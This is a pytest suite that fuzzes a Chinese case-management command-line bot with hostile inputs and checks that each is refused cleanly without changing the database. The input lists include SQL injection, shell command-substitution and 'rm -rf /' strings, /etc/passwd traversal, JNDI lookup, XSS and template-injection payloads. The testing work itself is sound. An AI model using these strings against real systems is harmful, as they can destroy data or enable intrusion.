"""A hostile probe of the `bot` command, in-process through click's CliRunner.

Every invocation below is something an operator could type by mistake or an attacker on
purpose: empty, huge, binary, wrongly encoded, emoji, markup, injection strings, bad dates
and numbers, unknown case numbers and actions, files of the wrong type. Each must end with a
one-line reason (Chinese, then English in brackets) and exit 0, 2 (refused) or 3 (database
or model), never a traceback; a refusal leaves the database exactly as it was.
"""
from __future__ import annotations

import hashlib
import json
import re
import sqlite3
import time

import pytest
from click.testing import CliRunner

from bot.cli import main
from tests.conftest import make_container

CASE_TABLES = ("cases", "events", "outbox")
REASON = re.compile(r"[\u4e00-\u9fff].*\(.+\)\s*$")      # 中文 … (English)
NUMBER = "{number}"                                       # the probe's real case


def digest(db) -> str:
    with sqlite3.connect(db) as conn:
        rows = [repr(conn.execute(f"SELECT * FROM {t} ORDER BY id").fetchall()) for t in CASE_TABLES]
    return hashlib.sha256("\n".join(rows).encode()).hexdigest()


@pytest.fixture(scope="module")
def probe(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    db = root / "cases.db"
    make_container(f"sqlite:///{db}", root).engine.dispose()
    env = {"DATABASE_URL": f"sqlite:///{db}", "BOT_VAR_DIR": str(root / "var"),
           "RASA_MODEL": str(root / "no-model.tar.gz"), "RASA_URL": "http://127.0.0.1:9"}
    files = _files(root)
    runner = CliRunner(env=env)
    opened = runner.invoke(main, ["case", "open", "--text", "人民路路灯坏了一排", "--category",
                                  "urban.municipal_facility", "--json"])
    assert opened.exit_code == 0, opened.output
    return {"runner": runner, "db": db, "files": files, "root": root,
            "number": json.loads(opened.stdout)["number"]}


def _files(root) -> dict[str, str]:
    f = root / "files"
    f.mkdir()
    made = {
        "empty.csv": b"",
        "header.csv": "text,label\n".encode(),
        "header_gbk.csv": "内容,分类\n".encode("gb18030"),
        "fake.xlsx": "这只是一段文字，不是 Excel".encode(),
        "zip.xlsx": b"PK\x03\x04not really a zip",
        "binary.csv": bytes(range(256)) * 64,
        "utf16.csv": "text,label\n楼下很吵,环境保护\n".encode("utf-16-le"),
        "sjis.csv": "text,label\nうるさい,環境\n".encode("shift_jis"),
        "bigcell.csv": ("text,label\n" + "吵" * 240_000 + ",环境保护\n").encode(),
        "unknown_labels.csv": "text,label\n楼下很吵,不存在的分类\n".encode(),
        "good.csv": "text,label\n楼下烧烤店天天吵到凌晨,环境保护\n".encode(),
        "doc.pdf": b"%PDF-1.4 not a table",
        "lines_empty.txt": b"\n\n   \n",
        "lines_binary.txt": b"\x00\x01\x02\x03" * 100,
        "lines_gbk.txt": "楼下很吵\n路灯坏了\n".encode("gb18030"),
        "lines_long.txt": ("吵" * 6_000 + "\n").encode(),
        "deep.json": b"[" * 20_000 + b"]" * 20_000,
        "bignum.json": b'{"id": ' + b"7" * 6_000 + b', "text": "caller: noise"}',
        "fake.jsonl": b"{not json}\n[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\n",
        "emoji.txt": "🔥🔥🔥😀👨‍👩‍👧\u200d\u202e".encode(),
        "markup.txt": b"<script>alert(1)</script>{{7*7}}${jndi:ldap://x/a}",
    }
    for name, data in made.items():
        (f / name).write_bytes(data)
    (f / "dir").mkdir()
    (f / "emptydir").mkdir()
    (f / "batch").mkdir()
    for name in ("deep.json", "bignum.json", "fake.jsonl", "fake.xlsx", "binary.csv", "markup.txt"):
        (f / "batch" / name).write_bytes(made[name])
    paths = {name: str(f / name) for name in (*made, "dir", "emptydir", "batch")}
    paths["missing"] = str(f / "missing.csv")
    paths["nodir_out"] = str(f / "no" / "such" / "dir" / "out.csv")
    paths["proc_out"] = "/proc/version/out.csv"
    return paths


HUGE = "吵" * 100_000
NO_MODEL = ["--model", "/nonexistent/model.tar.gz"]
INJECTIONS = ["'; DROP TABLE cases; --", "1 OR 1=1", "%s%s%s%n", "$(reboot)", "`id`",
              "../../../../etc/passwd", "${jndi:ldap://evil/a}", "{{7*7}}", "<img src=x onerror=alert(1)>",
              "\u202eevil", "🔥💣😀", "\x1b[31mred\x1b[0m", "NULL", "null", "-1", "%", "_"]
BAD_TO = ["99999", "61", "0", "-1", "1e10", "²", "٣", "2026-02-30", "2026-13-01", "9999-12-31",
          "0001-01-01", "tomorrow", "明天", "", " ", "2026/12/31", "12345678901234567890", "∞", "NaN"]

PROBES: list[tuple[str, list[str]]] = [
    # empty and whitespace
    *[("classify", ["classify", t]) for t in ("", " ", "\n\t", "\u3000")],
    ("classify", ["classify"]),
    ("classify", ["classify", "x", "--file", "{good.csv}"]),
    ("open", ["case", "open", "--text", "", "--category", "env.noise"]),
    ("open", ["case", "open", "--text", "   ", "--category", "env.noise"]),
    ("open", ["case", "open", "--text", "吵", "--category", ""]),
    ("show", ["case", "show", ""]),
    ("show", ["case", "show", "   "]),
    ("act", ["case", "act", "", "accept"]),
    ("stats", ["stats", "--period", ""]),
    # huge
    ("open", ["case", "open", "--text", HUGE, "--category", "env.noise"]),
    ("open", ["case", "open", "--text", "吵", "--category", "env.noise", "--name", "王" * 1000]),
    ("open", ["case", "open", "--text", "吵", "--category", "env.noise", "--place", "路" * 5000]),
    ("open", ["case", "open", "--text", "吵", "--category", "env.noise", "--idempotency-key", "k" * 10_000]),
    ("open", ["case", "open", "--text", "吵", "--category", "env.noise", "--contact", "1" * 5000]),
    ("open", ["case", "open", "--text", "吵", "--category", "c" * 10_000]),
    ("classify", ["classify", HUGE]),
    ("show", ["case", "show", "9" * 100_000]),
    ("act", ["case", "act", NUMBER, "note", "--text", HUGE]),
    ("stats", ["stats", "--period", "2026" * 1000]),
    # binary, control characters, bytes that are not UTF-8
    ("open", ["case", "open", "--text", "楼下\x00很吵", "--category", "env.noise"]),
    ("open", ["case", "open", "--text", "楼下\udcff很吵", "--category", "env.noise"]),
    ("open", ["case", "open", "--text", "吵", "--category", "env.noise", "--name", "\ud800"]),
    ("open", ["case", "open", "--text", "\x07\x08\x1b", "--category", "env.noise"]),
    ("classify", ["classify", "\udce4\udcbd"]),
    ("show", ["case", "show", "\x00"]),
    ("act", ["case", "act", NUMBER, "note", "--text", "\x00\x00"]),
    # emoji
    ("open", ["case", "open", "--text", "🔥🔥🔥", "--category", "env.noise", "--contact", "🔥"]),
    ("classify", ["classify", "👨‍👩‍👧"] + NO_MODEL),
    ("show", ["case", "show", "😀"]),
    ("act", ["case", "act", NUMBER, "transfer", "--to", "🏢"]),
    # markup and injection strings where a number, code or key belongs
    *[("show", ["case", "show", s]) for s in INJECTIONS],
    *[("open", ["case", "open", "--text", "吵", "--category", s]) for s in INJECTIONS[:6]],
    *[("open", ["case", "open", "--text", "吵", "--category", "env.noise", "--area", s]) for s in INJECTIONS[:4]],
    ("list", ["case", "list", "--state", "'; DROP TABLE cases; --"]),
    ("list", ["case", "list", "--body", "' OR '1'='1", "--json"]),
    ("act", ["case", "act", NUMBER, "merge", "--to", "' OR 1=1 --"]),
    ("act", ["case", "act", NUMBER, "merge", "--to", NUMBER]),
    # bad dates and numbers
    *[("extend", ["case", "act", NUMBER, "extend", "--to", t, "--text", "需要协调"]) for t in BAD_TO],
    ("extend", ["case", "act", NUMBER, "extend", "--to", "5"]),
    *[("list", ["case", "list", "--limit", n]) for n in ("-1", "0", "99999999999999999999", "abc", "1.5")],
    *[("watchdog", ["watchdog", "--once", "--interval", n]) for n in ("-1", "nan", "abc")],
    *[("outbox", ["outbox", "--once", "--interval", n]) for n in ("-5", "inf", "nan")],
    *[("stats", ["stats", "--period", p]) for p in ("2026Q5", "2026-13", "2026-00", "99999", "-1", "Q", "2026Q0",
                                                    "０２０２６", "2026-1-1", "2026Q4'--")],
    ("rate", ["case", "act", NUMBER, "rate", "--solved"]),
    ("rate", ["case", "act", NUMBER, "rate", "--solved", "--satisfaction", "非常满意"]),
    # unknown case numbers and actions
    *[("show", ["case", "show", n]) for n in ("20990101-0001", "00000000-0000", "abc", "2026-11-22")],
    *[("act", ["case", "act", n, "accept"]) for n in ("20990101-0001", "x" * 300)],
    *[("act", ["case", "act", NUMBER, a]) for a in ("explode", "ASSIGN", "", "accept;rm -rf /", "删除")],
    ("act", ["case", "act", NUMBER, "reply"]),
    ("act", ["case", "act", NUMBER, "transfer", "--to", "B-nope"]),
    ("act", ["case", "act", NUMBER, "transfer"]),
    ("act", ["case", "act", NUMBER, "close"]),
    # unknown commands and options
    ("usage", ["nope"]),
    ("usage", ["case", "nope"]),
    ("usage", ["case", "open", "--bogus"]),
    ("usage", ["case", "open", "--text"]),
    ("usage", ["case", "open", "--text", "吵", "--category", "env.noise", "--kind", "war"]),
    ("usage", ["db"]),
    ("usage", ["--verbose", "--nope"]),
    # bad files: evaluate
    *[("evaluate", ["evaluate", "--data", "{%s}" % n] + NO_MODEL)
      for n in ("empty.csv", "header.csv", "header_gbk.csv", "fake.xlsx", "zip.xlsx", "binary.csv",
                "utf16.csv", "sjis.csv", "bigcell.csv", "unknown_labels.csv", "doc.pdf", "missing",
                "dir", "good.csv")],
    ("evaluate", ["evaluate", "--data", "{good.csv}", "--text-col", "nope"] + NO_MODEL),
    ("evaluate", ["evaluate", "--data", "{good.csv}", "--predictions", "{nodir_out}"] + NO_MODEL),
    ("evaluate", ["evaluate", "--data", "{good.csv}", "--predictions", "{proc_out}"] + NO_MODEL),
    ("evaluate", ["evaluate", "--data", "{good.csv}", "--predictions", "{dir}"] + NO_MODEL),
    ("evaluate", ["evaluate", "--data", "/dev/null"] + NO_MODEL),
    # bad files: classify --file
    *[("classify", ["classify", "--file", "{%s}" % n] + NO_MODEL)
      for n in ("lines_empty.txt", "lines_binary.txt", "lines_long.txt", "missing", "dir", "fake.xlsx",
                "lines_gbk.txt", "emoji.txt")],
    # bad files: intake
    *[("intake", ["intake", "{%s}" % n, "--dry-run"])
      for n in ("deep.json", "bignum.json", "fake.jsonl", "fake.xlsx", "binary.csv", "missing",
                "emptydir", "batch", "header.csv", "bigcell.csv", "emoji.txt", "markup.txt", "utf16.csv",
                "sjis.csv", "doc.pdf")],
    ("intake", ["intake", "{batch}", "--json"]),
    ("intake", ["intake", "{good.csv}", "--format", "xlsx", "--dry-run"]),
    ("intake", ["intake", "{good.csv}", "--format", "yaml"]),
]


# `bot intake -` with what arrives on stdin
STDIN_PROBES: list[tuple[list[str], bytes]] = [
    (["intake", "-"], b""),
    (["intake", "-"], b"   \n\t "),
    (["intake", "-"], bytes(range(256)) * 50),
    (["intake", "-", "--format", "json"], b"[" * 50_000),
    (["intake", "-", "--format", "json"], b'{"text": "\\ud800\\udfff caller: noise", "id": "s"}'),
    (["intake", "-", "--format", "json"], b'{"text": "\\ud800 caller: noise", "id": "s\\udfff"}'),
    (["intake", "-", "--format", "jsonl"], b'{"text": "caller: \\udc00 noise"}\n{"text": "caller: noise"}'),
    (["intake", "-", "--format", "jsonl"], b"{}\n[]\n\"\"\n1\nnull\n"),
    (["intake", "-", "--format", "csv"], b"text\n" + b'"unterminated' * 1000),
    (["intake", "-", "--format", "xlsx"], b"PK\x03\x04" + b"\x00" * 1000),
    (["intake", "-", "--format", "text"], "もしもし、道路が壊れています".encode("shift_jis")),
    (["intake", "-", "--format", "text"], "话务员：您好\n市民：".encode("utf-16-le")),
    (["intake", "-", "--format", "text", "--json"], ("市民：" + "吵" * 120_000).encode()),
    (["intake", "-", "--format", "text"], b"x" + b" " * 99_000 + b"y"),
]


@pytest.mark.parametrize("args, data", STDIN_PROBES, ids=[f"stdin-{i}" for i in range(len(STDIN_PROBES))])
def test_hostile_stdin(probe, args, data):
    before = digest(probe["db"])
    started = time.monotonic()
    result = probe["runner"].invoke(main, args + ["--dry-run"], input=data)
    assert time.monotonic() - started < 20
    output = result.stdout + result.stderr
    assert "Traceback" not in output and result.exit_code in (0, 2), output[-1000:]
    assert REASON.search(result.stderr.strip().splitlines()[-1])
    assert digest(probe["db"]) == before


def _args(args: list[str], probe) -> list[str]:
    names = {**probe["files"], "number": probe["number"]}
    return [re.sub(r"\{([^{}]+)\}", lambda m: names.get(m.group(1), m.group(0)), a) for a in args]


def test_the_probe_is_big_enough():
    assert len(PROBES) + len(STDIN_PROBES) >= 100


@pytest.mark.parametrize("kind, args", PROBES, ids=[f"{i}-{k}" for i, (k, _) in enumerate(PROBES)])
def test_hostile_invocation(probe, kind, args):
    before = digest(probe["db"])
    started = time.monotonic()
    result = probe["runner"].invoke(main, _args(args, probe))
    took = time.monotonic() - started
    output = result.stdout + result.stderr
    assert "Traceback" not in output, output[-2000:]
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code in (0, 2, 3), (result.exit_code, output[-1000:])
    assert took < 20, f"{took:.1f}s"
    if result.exit_code != 0:
        last = result.stderr.strip().splitlines()[-1]
        assert REASON.search(last), last[:500]
        assert digest(probe["db"]) == before, "a refusal changed the database"


# ---------------------------------------------------------------------- specific findings
def invoke(probe, *args):
    return probe["runner"].invoke(main, _args(list(args), probe))


@pytest.mark.parametrize("text", ["", "   ", "\n"])
def test_classify_of_nothing_exits_2(probe, text):
    result = invoke(probe, "classify", text)
    assert result.exit_code == 2 and "文本为空" in result.stderr and "(empty text)" in result.stderr


def test_extension_beyond_60_working_days_is_refused_quickly(probe):
    before = invoke(probe, "case", "show", NUMBER, "--json")
    started = time.monotonic()
    result = invoke(probe, "case", "act", NUMBER, "extend", "--to", "99999", "--text", "需要协调")
    assert time.monotonic() - started < 2
    assert result.exit_code == 2 and "1 到 60 个工作日" in result.stderr
    far = invoke(probe, "case", "act", NUMBER, "extend", "--to", "2410-01-01", "--text", "需要协调")
    assert far.exit_code == 2 and "延期最多 60 个工作日" in far.stderr
    after = invoke(probe, "case", "show", NUMBER, "--json")
    assert json.loads(after.stdout)["due_at"] == json.loads(before.stdout)["due_at"]


def test_an_extension_within_the_bound_still_works(probe):
    result = invoke(probe, "case", "act", NUMBER, "extend", "--to", "10", "--text", "需要协调", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["events"][-1]["action"] == "extend"


def test_evaluate_on_a_header_only_file_says_there_are_no_rows(probe):
    result = invoke(probe, "evaluate", "--data", "{header.csv}", *NO_MODEL)
    assert result.exit_code == 2 and "没有数据行" in result.stderr
    assert "文件里的列有：\n" not in result.stderr


def test_evaluate_on_text_named_xlsx_is_a_clear_refusal(probe):
    result = invoke(probe, "evaluate", "--data", "{fake.xlsx}", *NO_MODEL)
    assert result.exit_code == 2 and "Excel" in result.stderr and "BadZipFile" in result.stderr


def test_unwritable_predictions_is_refused_before_any_work(probe, monkeypatch):
    def no_classifier(*_):
        raise AssertionError("the classifier was built before the output was checked")

    monkeypatch.setattr("bot.cli._classifier", no_classifier)
    result = invoke(probe, "evaluate", "--data", "{good.csv}", "--predictions", "{nodir_out}")
    assert result.exit_code == 2 and "无法写入预测结果文件" in result.stderr


def test_control_characters_typed_by_the_user_do_not_reach_the_terminal(probe):
    result = invoke(probe, "case", "show", "\x1b[2J\u202eevil")
    assert result.exit_code == 2 and "\x1b" not in result.stderr and "\u202e" not in result.stderr
    assert "\\x1b[2J" in result.stderr


def test_a_text_of_control_characters_only_is_empty(probe):
    result = invoke(probe, "case", "open", "--text", "\x07\x08\x1b", "--category", "env.noise")
    assert result.exit_code == 2 and "不能为空" in result.stderr


def test_an_empty_import_directory_is_refused(probe):
    result = invoke(probe, "intake", "{emptydir}")
    assert result.exit_code == 2 and "没有可导入的转写文件" in result.stderr


@pytest.mark.parametrize("name, zh", [("doc.pdf", "不支持PDF"), ("sjis.csv", "编码无法识别")])
def test_documents_and_foreign_encodings_are_not_imported_as_text(probe, name, zh):
    result = invoke(probe, "intake", "{%s}" % name, "--dry-run", "--json")
    assert result.exit_code == 2
    assert zh in json.loads(result.stdout.splitlines()[0])["error"]["zh"]


def test_a_usage_error_ends_with_a_chinese_reason(probe):
    result = invoke(probe, "case", "open", "--bogus")
    assert result.exit_code == 2
    assert result.stderr.strip().splitlines()[-1].startswith("错误：没有这个选项")


def test_an_unforeseen_error_is_one_line_and_its_traceback_is_kept(probe, monkeypatch):
    def broken(*_, **__):
        raise KeyError("boom")

    monkeypatch.setattr("bot.cases.stats.compute", broken)
    result = invoke(probe, "stats")
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    assert result.stderr.startswith("错误：内部错误") and "KeyError" in result.stderr
    kept = (probe["root"] / "var" / "log" / "cli-errors.log").read_text(encoding="utf-8")
    assert "Traceback" in kept and "boom" in kept
